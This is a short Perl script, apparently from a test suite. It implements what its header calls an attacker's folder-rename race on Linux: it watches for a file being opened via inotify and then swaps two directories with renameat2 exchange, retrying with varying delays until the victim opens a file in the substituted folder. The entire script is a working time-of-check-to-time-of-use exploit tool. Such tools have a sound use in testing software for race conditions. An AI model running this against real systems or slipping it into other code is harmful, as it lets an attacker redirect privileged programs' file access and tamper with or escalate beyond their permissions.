# exchange.pl FOLDER OTHER BEFORE FILE
#
# What an attacker does who may rename two folders: each time that BEFORE of FOLDER is opened, puts OTHER in the folder's place, each time after
# another delay, until FILE is opened there. Until it is killed. Numbers of Linux on x86-64.
use strict;
use Time::HiRes qw(sleep);

my ($folder, $other, $before, $file) = @ARGV;
my ($inotify_init1, $inotify_add_watch, $renameat2, $at_fdcwd, $exchange, $in_open) = (294, 254, 316, -100, 2, 0x20);

sub watch {
    my $descriptor = syscall($inotify_init1, 0);
    syscall($inotify_add_watch, $descriptor, $_[0], $in_open) >= 0 or die "$_[0]: $!";
    open(my $events, '<&=', $descriptor) or die $!;
    return $events;
}

sub swap { syscall($renameat2, $at_fdcwd, $folder, $at_fdcwd, $other, $exchange) == 0 or die $! }

for (my $try = 0; ; $try++) {
    my ($started, $taken) = (watch("$folder/$before"), watch("$other/$file"));
    sysread($started, my $event, 4096);
    sleep(0.001 * 1.25**($try % 24));
    swap();
    vec(my $bits = '', fileno($taken), 1) = 1;
    select($bits, undef, undef, 0.1);
    swap();
}
